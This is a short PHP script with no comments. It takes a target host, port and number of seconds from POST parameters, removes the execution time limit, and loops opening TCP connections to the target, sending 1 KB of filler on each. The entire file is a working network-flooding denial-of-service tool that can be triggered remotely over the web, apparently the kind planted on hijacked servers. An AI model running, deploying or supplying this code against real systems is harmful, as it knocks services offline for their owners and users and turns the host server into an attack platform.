<?php
set_time_limit(0);
$host = $_POST['host']; $port = (int) $_POST['port'];
$stop = microtime(true) + $_POST['secs'];
while (microtime(true) < $stop) {
    $s = @fsockopen($host, $port, $e, $m, 1);
    if ($s) { fwrite($s, str_repeat('X', 1024)); fclose($s); }
}
